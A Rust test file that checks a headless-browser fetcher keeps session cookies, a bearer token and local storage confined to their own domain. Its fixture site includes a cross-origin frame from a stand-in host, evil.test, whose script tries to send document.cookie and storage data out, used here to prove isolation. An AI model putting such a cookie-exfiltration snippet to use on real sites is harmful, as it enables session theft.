//! Stored sessions in the browser: cookies and local storage reach their domain alone.

use std::sync::{Arc, Mutex};

use rungs::core::request::Item;
use rungs::core::session::{
    CookieChange, OriginStorage, SessionCookie, SessionDomain, SessionState,
};
use rungs::fetch::Chrome;
use rungs::net::NetPolicy;
use rungs::ports::fetch::{AttemptSession, BrowserFetcher};
use rungs::testkit::site::{Site, SiteRequest, SiteResponse};

use crate::{request, text};

/// A page that shows what it finds in its local storage, in a frame of another site too.
fn shop(request: &SiteRequest) -> SiteResponse {
    let shown = "<p id=found></p><script>found.textContent = 'token: ' + localStorage.getItem('token')</script>";
    match request.path.as_str() {
        "/away" => SiteResponse::redirect(302, "http://evil.test/own"),
        "/frame" => SiteResponse::html(
            "<script>new Image().src = '/report?' + localStorage.length + document.cookie</script>",
        ),
        "/own" => SiteResponse::html(shown),
        _ => SiteResponse::html(format!(
            "{shown}<img src='http://evil.test/image'><iframe src='http://evil.test/frame'></iframe>"
        ))
        .header("set-cookie", "sid=renewed; Path=/; HttpOnly"),
    }
}

#[tokio::test]
async fn a_session_reaches_its_domain_alone_and_is_renewed() {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = Arc::clone(&seen);
    let site = Site::start(move |request| {
        let cookie = request.header("cookie").unwrap_or_default().to_owned();
        let token = request.header("authorization").unwrap_or_default().to_owned();
        let entry = (request.host.clone(), request.path.clone(), cookie, token);
        log.lock().expect("no panic inside").push(entry);
        shop(request)
    });
    let network = NetPolicy::new().allow_network("127.0.0.0/8").expect("a network");
    let network =
        ["shop.test", "evil.test"].iter().fold(network, |it, host| it.resolve(host, site.addr()));
    let chrome = Chrome::new().network(network);
    let domain = SessionDomain::parse("http://shop.test").expect("a domain");
    let storage = [("token".to_owned(), "stored-s3cret".to_owned())];
    let state = SessionState::default()
        .with_cookies([
            SessionCookie::new("sid", "first", &domain),
            // Names that Chromium refuses with another domain or without `Secure`, and with them all cookies.
            SessionCookie::new(
                "__Host-a",
                "1",
                &SessionDomain::parse("shop.test").expect("a domain"),
            ),
            SessionCookie::new("__host-b", "1", &domain),
            SessionCookie::new("__Secure-c", "1", &domain),
        ])
        .with_headers([("Authorization".to_owned(), "Bearer s3cret".to_owned())])
        .with_storage([OriginStorage::new("http://shop.test", storage)]);
    let render = async |path: &str| {
        let session = AttemptSession::new(domain.clone(), state.clone());
        let request = request(&format!("http://shop.test{path}"), |_: &mut Item| {})
            .with_session(Some(session.clone()));
        (chrome.render(request).await.expect("a page"), session)
    };

    let (page, session) = render("/orders").await;
    let (away, _) = render("/away").await;

    assert!(text(&page).contains("token: stored-s3cret"), "{}", text(&page));
    assert!(text(&away).contains("token: null"), "{}", text(&away));
    let [CookieChange::Set(renewed)] = &session.take_changes()[..] else { panic!("one change") };
    assert_eq!((renewed.name.as_str(), renewed.value.as_str()), ("sid", "renewed"));
    assert!(renewed.http_only && renewed.domain == "shop.test");
    let seen = seen.lock().expect("no panic inside");
    let first = seen.iter().find(|it| it.0 == "shop.test" && it.1 == "/orders").expect("the page");
    assert_eq!((first.2.as_str(), first.3.as_str()), ("sid=first", "Bearer s3cret"));
    let others: Vec<_> = seen.iter().filter(|it| it.0 == "evil.test").collect();
    assert!(others.iter().any(|it| it.1 == "/image") && others.iter().any(|it| it.1 == "/own"));
    for (_, path, cookie, token) in others {
        assert_eq!((cookie.as_str(), token.as_str()), ("", ""), "{path}");
        assert!(!path.starts_with("/report") || path == "/report?0", "{path}");
    }
}
